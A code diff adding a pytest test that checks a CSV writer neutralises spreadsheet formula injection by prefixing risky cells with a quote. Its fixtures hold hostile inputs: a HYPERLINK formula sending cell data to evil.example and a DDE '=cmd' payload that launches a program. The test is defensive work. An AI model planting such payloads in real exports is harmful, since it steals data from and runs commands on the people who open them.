@@ -62,3 +62,38 @@ def test_peak_rss_is_the_blocks_own_peak() -> None:
     before, peak = memory["rss_before_bytes"], memory["peak_rss_bytes"]
     assert before is not None and peak is not None, "Linux exposes /proc/self/clear_refs and VmHWM"
     assert 40 * MIB <= peak - before < 90 * MIB, (before / MIB, peak / MIB)
+
+
+def test_stored_csvs_carry_no_formula(tmp_path: Path) -> None:
+    """Security review #23, L3: upstream text that a spreadsheet would run as a formula is stored as text
+    (a ``'`` in front), in the part files and the merged report; JSON numbers stay numbers."""
+    from courier.pages import records as to_csv
+    from courier.pages.records import csv_writer, write_records
+
+    records = [
+        {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "delta": -5, "note": "-2+3"},
+        {"id": 2, "name": "+1", "delta": 1.5, "note": "@SUM(A1:A9)", "=cmd|' /C calc'!A0": "\tx"},
+        {"id": 3, "name": "plain", "delta": 0, "note": "-", "=cmd|' /C calc'!A0": "ok"},
+    ]
+    parts = []
+    for index, chunk in enumerate((records[:1], records[1:])):
+        columns = list(dict.fromkeys(key for record in chunk for key in record))
+        path = tmp_path / f"part-{index}.csv"
+        with path.open("w", newline="") as stream:
+            write_records(csv_writer(stream, columns), chunk)
+        parts.append((path.as_uri(), columns))
+    rows, _ = merge_parts(parts, (tmp_path / "report.csv").as_uri())
+    assert rows == 3
+    for name in ("part-1.csv", "report.csv"):
+        with (tmp_path / name).open(newline="") as stream:
+            table = list(csv.reader(stream))
+        cells = [c for row in table for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")], (name, table)
+        assert "'=cmd|' /C calc'!A0" in table[0], table[0]
+    with (tmp_path / "report.csv").open(newline="") as stream:
+        report = list(csv.DictReader(stream))
+    assert [r["delta"] for r in report] == ["-5", "1.5", "0"]  # numbers untouched
+    assert [r["note"] for r in report] == ["'-2+3", "'@SUM(A1:A9)", "'-"]
+    assert report[0]["name"].startswith("'=HYPERLINK(") and report[2]["name"] == "plain"
+    guard = to_csv.text_cell  # type: ignore[attr-defined,unused-ignore]
+    assert guard("\r=1") == "'\r=1" and guard("\t=1") == "'\t=1" and guard("a=1") == "a=1"
